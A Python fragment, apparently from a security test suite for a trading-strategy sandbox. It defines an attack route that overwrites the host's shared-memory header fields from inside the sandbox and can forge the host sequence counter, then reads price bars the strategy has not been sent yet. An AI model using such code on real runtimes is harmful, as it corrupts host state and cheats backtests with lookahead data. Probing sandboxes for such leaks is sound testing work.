# Corrupting the header's host-side words from inside the sandbox, with
# numpy alone (the region is .base.base of any column): kind and upto (as
# if the host had sent every bar), slot_mode; then waiting, and reading
# every column after the current bar.  With params["host_seq_at"] = K, the
# strategy also bumps host_seq at bar K (the host's next post writes its
# own value over it; if the runtime saw ours first, it would run
# generate_signals again and answer twice).  Reads are labelled with the
# last bar the host may have sent, counted from the posts: the bars after
# it were not answered for.
import time


def r_header(self, d, bar):
    mv = region_of(d)
    u32 = np.frombuffer(mv, dtype=np.uint32, count=96)
    u64 = np.frombuffer(mv, dtype=np.uint64, count=48)
    h = header(mv)
    nb = h["nbars"]
    # The last bar the host may have sent: one per answer posted (slot_seq
    # counts the hello and every post), whatever the runtime was made to
    # believe.  Read before the columns.
    real = int(u32[H_SLOT_SEQ // 4]) - 1
    forged = getattr(self, "forged_seq", None)
    u32[H_KIND // 4] = 1
    u64[H_UPTO // 8] = nb
    u32[H_SLOT_MODE // 4] = 7
    if real == self.config.get("host_seq_at", -1) and forged is None:
        u32[H_HOST_SEQ // 4] += 1000  # not a value the host will write next
        self.forged_seq = int(u32[H_HOST_SEQ // 4])
    t0 = time.monotonic()
    while time.monotonic() - t0 < 0.01:
        pass
    for c in range(5):
        col = np.frombuffer(mv, dtype=np.float64, count=nb, offset=h["cols_off"] + c * nb * 8)
        later = col[real + 1:]
        seen("header_col%d" % c, real, later[later != 0][:8])
    seen("header_view", real, d.close[real + 1:])
    # the control: the last bar present (the label may run ahead of it when
    # the runtime answered twice)
    close = np.frombuffer(mv, dtype=np.float64, count=nb, offset=h["cols_off"] + 3 * nb * 8)
    present = np.flatnonzero(close[:real + 1])
    if present.size:
        control("header", int(present[-1]), close[present[-1]])


class Header(Attack):  # noqa: F821
    ROUTES = {"header": r_header}
